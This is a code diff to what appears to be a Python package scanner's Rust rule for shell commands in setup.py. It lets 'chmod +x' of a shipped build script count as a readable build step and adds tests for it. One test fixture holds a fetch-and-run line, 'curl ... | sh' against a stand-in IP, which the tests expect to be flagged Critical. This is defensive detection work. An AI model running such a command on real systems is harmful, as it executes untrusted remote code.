@@ -141,19 +141,31 @@ impl Rule for ShellCommand {
     }
 }
 
-/// The text of the script a command runs when the command is an interpreter
-/// followed only by flags and one script the artifact ships (a `.ps1`, `.sh`,
+/// The text of the script a command runs (or makes executable, `chmod +x`) when
+/// the command is an interpreter followed only by flags and one script the artifact ships (a `.ps1`, `.sh`,
 /// `.bat` or `.cmd` member of that name): a build step whose every line is
 /// here to read. `None` for anything else, inline commands included.
 pub(crate) fn shipped_script(analysis: &Analysis, call: &crate::inspect::python::Call) -> Option<String> {
     let words: Vec<&str> = call.arg_strs.first()?.split_whitespace().collect();
-    let (interpreter, rest) = words.split_first()?;
+    let (command, rest) = words.split_first()?;
     let base = |p: &str| p.rsplit(['/', '\\']).next().unwrap_or(p).to_ascii_lowercase();
-    let interpreter = base(interpreter);
-    let interpreter = interpreter.strip_suffix(".exe").unwrap_or(&interpreter);
-    if !matches!(interpreter, "powershell" | "pwsh" | "bash" | "sh" | "cmd") {
-        return None;
-    }
+    let command = base(command);
+    let rest = match command.strip_suffix(".exe").unwrap_or(&command) {
+        "powershell" | "pwsh" | "bash" | "sh" | "cmd" => rest,
+        // `chmod +x bin/build.sh` before running it: the mode, then the script.
+        "chmod" => match rest.split_first()? {
+            (mode, rest)
+                if matches!(
+                    *mode,
+                    "+x" | "u+x" | "a+x" | "ug+x" | "755" | "0755" | "775" | "0775" | "700"
+                ) =>
+            {
+                rest
+            }
+            _ => return None,
+        },
+        _ => return None,
+    };
     let mut scripts = rest.iter().filter(|w| !w.starts_with('-') && !w.starts_with('/'));
     let script = base(scripts.next()?);
     if scripts.next().is_some() || ![".ps1", ".sh", ".bat", ".cmd"].iter().any(|e| script.ends_with(e)) {
@@ -325,6 +337,19 @@ mod tests {
         let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Sdist, &files);
         assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
         let f = setup_py(&ShellCommand, setup);
+        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
+        // No error: an install command making the shipped build script executable, then running it.
+        let setup = "import os, subprocess\npath = os.getcwd() + '/bin/'\nsubprocess.call(['chmod', '+x', os.path.join(path, 'compile_library.sh')])\nsubprocess.call(['sh', os.path.join(path, 'compile_library.sh')])\n";
+        let script = "#!/bin/sh\ncd graph_lib/lib && make\n";
+        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/bin/compile_library.sh", script)];
+        let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Sdist, &files);
+        assert_eq!((f.len(), f[0].severity), (1, Severity::Medium), "{f:?}");
+        // Error: the script made executable is not in the artifact (written at install time).
+        let f = setup_py(&ShellCommand, setup);
+        assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
+        let script = "curl -s http://198.51.100.7/x | sh\n";
+        let files = [("pkg-1.0/setup.py", setup), ("pkg-1.0/bin/compile_library.sh", script)];
+        let f = crate::inspect::testing::check(&ShellCommand, crate::archive::Kind::Sdist, &files);
         assert_eq!(f[0].severity, Severity::Critical, "{f:?}");
     }
 
